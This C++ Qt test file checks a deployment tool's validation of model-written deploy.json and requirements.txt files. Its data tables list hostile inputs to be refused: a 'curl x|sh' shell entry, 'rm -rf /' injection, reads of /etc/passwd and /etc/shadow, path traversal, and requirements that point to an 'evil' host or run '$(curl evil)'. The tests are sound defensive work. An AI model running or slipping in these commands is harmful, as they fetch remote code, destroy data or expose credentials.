// deploy.json and requirements.txt are written by the model, so they are read like input from
// a network peer: every bundled template's contract reads; wrong types, missing fields, huge
// values, paths out of the release and programs other than Python are refused with a message
// saying what is allowed; a dependency file passes only plain requirements (no options, URLs
// or paths, which would reach another index or read files outside the project).

#include "deploy/Requirements.h"
#include "deploy/ServiceContract.h"
#include "tools/ScaffoldTool.h"

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace orch;

class TestServiceContract : public QObject
{
    Q_OBJECT

private slots:
    void everyBundledTemplateDeclaresItself()
    {
        const QStringList templates = ScaffoldTool::bundledTemplates();
        QVERIFY(templates.contains("python-http-service"));
        QVERIFY(templates.contains("python-telegram-bot"));
        QVERIFY(templates.contains("python-worker"));
        QSet<QString> kinds;
        for (const QString& name : templates) {
            auto contract = ServiceContract::read(":/templates/" + name);
            QVERIFY2(contract.ok(), qPrintable(name + ": " + contract.error()));
            kinds << ServiceContract::kindName(contract->kind);
            QCOMPARE(contract->dependencies, QStringLiteral("requirements.txt"));
            QVERIFY(QFile::exists(":/templates/" + name + "/" + contract->arguments.first()));
            // The JSON the agents see reads back as the same contract.
            auto again = ServiceContract::fromJson(contract->toJson());
            QVERIFY2(again.ok(), qPrintable(again.error()));
            QCOMPARE(again->arguments, contract->arguments);
            QCOMPARE(again->kind, contract->kind);
        }
        QCOMPARE(kinds, (QSet<QString>{"http-service", "telegram-bot", "worker"}));
        auto bot = ServiceContract::read(":/templates/python-telegram-bot").value();
        QCOMPARE(bot.secrets, QStringList{"BOT_TOKEN"});
        QVERIFY(!bot.listens());
    }

    void aReleaseWithoutContractIsTheOldHttpService()
    {
        QTemporaryDir dir;
        auto contract = ServiceContract::read(dir.path());
        QVERIFY(contract.ok());
        QCOMPARE(contract->kind, ServiceContract::Kind::HttpService);
        QCOMPARE(contract->arguments, QStringList{"app.py"});
        QCOMPARE(contract->healthPath, QStringLiteral("/health"));
    }

    void hostileContractsAreRefused_data()
    {
        QTest::addColumn<QByteArray>("document");
        QTest::addColumn<QString>("says");
        QTest::newRow("not json") << QByteArray("{kind: bot") << "not JSON";
        QTest::newRow("array") << QByteArray("[1]") << "must be an object";
        QTest::newRow("no kind") << QByteArray("{\"entry\":[\"python3\",\"a.py\"]}") << "`kind`";
        QTest::newRow("odd kind") << QByteArray(
                                         "{\"kind\":\"rootkit\",\"entry\":[\"python3\",\"a\"]}")
                                  << "`kind`";
        QTest::newRow("kind number")
            << QByteArray("{\"kind\":7,\"entry\":[\"python3\",\"a\"]}") << "`kind`";
        QTest::newRow("no entry") << QByteArray("{\"kind\":\"worker\"}") << "`entry`";
        QTest::newRow("entry string")
            << QByteArray("{\"kind\":\"worker\",\"entry\":\"python3 a.py\"}") << "`entry`";
        QTest::newRow("other program")
            << QByteArray("{\"kind\":\"worker\",\"entry\":[\"/bin/sh\",\"-c\",\"curl x|sh\"]}")
            << "must start with \"python3\"";
        QTest::newRow("only python") << QByteArray("{\"kind\":\"worker\",\"entry\":[\"python3\"]}")
                                     << "must start with \"python3\"";
        QTest::newRow("absolute script")
            << QByteArray("{\"kind\":\"worker\",\"entry\":[\"python3\",\"/etc/passwd\"]}")
            << "inside the release";
        QTest::newRow("escape")
            << QByteArray("{\"kind\":\"worker\",\"entry\":[\"python3\",\"../../x.py\"]}")
            << "inside the release";
        QTest::newRow("shell text")
            << QByteArray("{\"kind\":\"worker\",\"entry\":[\"python3\",\"a.py; rm -rf /\"]}")
            << "inside the release";
        QTest::newRow("entry of numbers")
            << QByteArray("{\"kind\":\"worker\",\"entry\":[\"python3\",5]}") << "strings";
        QTest::newRow("huge entry")
            << QByteArray("{\"kind\":\"worker\",\"entry\":[\"python3\",\"") +
                   QByteArray(5000, 'a') + "\"]}"
            << "128 characters";
        QTest::newRow("dependencies escape")
            << QByteArray("{\"kind\":\"worker\",\"entry\":[\"python3\",\"w.py\"],\"dependencies\":"
                          "\"../../etc/shadow\"}")
            << "`dependencies`";
        QTest::newRow("dependencies absolute")
            << QByteArray("{\"kind\":\"worker\",\"entry\":[\"python3\",\"w.py\"],\"dependencies\":"
                          "\"/etc/shadow\"}")
            << "`dependencies`";
        QTest::newRow("secret lower")
            << QByteArray(
                   "{\"kind\":\"worker\",\"entry\":[\"python3\",\"w.py\"],\"secrets\":[\"path\"]}")
            << "environment variable";
        QTest::newRow("secret PORT")
            << QByteArray(
                   "{\"kind\":\"worker\",\"entry\":[\"python3\",\"w.py\"],\"secrets\":[\"PORT\"]}")
            << "not PORT";
        QTest::newRow("health path url")
            << QByteArray("{\"kind\":\"http-service\",\"entry\":[\"python3\",\"a.py\"],\"health\":{"
                          "\"path\":\"http://evil/\"}}")
            << "`health.path`";
        QTest::newRow("alive forever")
            << QByteArray("{\"kind\":\"worker\",\"entry\":[\"python3\",\"w.py\"],\"health\":{"
                          "\"alive_seconds\":1e12}}")
            << "alive_seconds";
        QTest::newRow("health list")
            << QByteArray("{\"kind\":\"worker\",\"entry\":[\"python3\",\"w.py\"],\"health\":[1]}")
            << "`health`";
        QTest::newRow("huge file") << QByteArray(70000, ' ') << "larger than";
    }

    void hostileContractsAreRefused()
    {
        QFETCH(QByteArray, document);
        QFETCH(QString, says);
        QTemporaryDir dir;
        QFile file(dir.filePath("deploy.json"));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(document);
        file.close();
        auto contract = ServiceContract::read(dir.path());
        QVERIFY(!contract.ok());
        QVERIFY2(contract.error().contains(says), qPrintable(contract.error()));
        QVERIFY(contract.error().size() < 400);
    }

    void plainRequirementsPass()
    {
        auto parsed = parseRequirements("# packages\n\nrequests>=2.31,<3\n  Flask[async] == 3.0.0 "
                                        "  # web\ntzdata; python_version < \"3.12\"\nsix\n");
        QVERIFY2(parsed.ok(), qPrintable(parsed.error()));
        QCOMPARE(parsed.value(), (QStringList{"requests>=2.31,<3", "Flask[async] == 3.0.0",
                                              "tzdata; python_version < \"3.12\"", "six"}));
        QCOMPARE(parseRequirements("").value(), QStringList{});
    }

    void requirementsThatReachElsewhereAreRefused_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QString>("says");
        QTest::newRow("other index")
            << QByteArray("--index-url http://evil/simple\nsix") << "options are not allowed";
        QTest::newRow("extra index")
            << QByteArray("six\n--extra-index-url=http://evil") << "line 2";
        QTest::newRow("read a file") << QByteArray("-r /etc/shadow") << "options";
        QTest::newRow("constraint file") << QByteArray("-c ../../x.txt") << "options";
        QTest::newRow("editable") << QByteArray("-e git+https://evil/x.git#egg=x") << "options";
        QTest::newRow("direct url")
            << QByteArray("x @ https://evil/x-1.0-py3-none-any.whl") << "not a plain";
        QTest::newRow("bare url") << QByteArray("https://evil/x.tar.gz") << "not a plain";
        QTest::newRow("path") << QByteArray("./vendor/x") << "not a plain";
        QTest::newRow("absolute path") << QByteArray("/tmp/x.whl") << "not a plain";
        QTest::newRow("continuation") << QByteArray("six \\\n--index-url x") << "not a plain";
        QTest::newRow("shell") << QByteArray("six; $(curl evil)") << "not a plain";
        QTest::newRow("long line") << QByteArray(300, 'a') << "longer than";
        QTest::newRow("huge") << QByteArray(70000, '\n') << "larger than";
        QByteArray many;
        for (int i = 0; i < 150; ++i)
            many += "pkg" + QByteArray::number(i) + "\n";
        QTest::newRow("too many") << many << "more than";
    }

    void requirementsThatReachElsewhereAreRefused()
    {
        QFETCH(QByteArray, text);
        QFETCH(QString, says);
        auto parsed = parseRequirements(text);
        QVERIFY(!parsed.ok());
        QVERIFY2(parsed.error().contains(says), qPrintable(parsed.error()));
    }
};

QTEST_GUILESS_MAIN(TestServiceContract)
#include "tst_service_contract.moc"
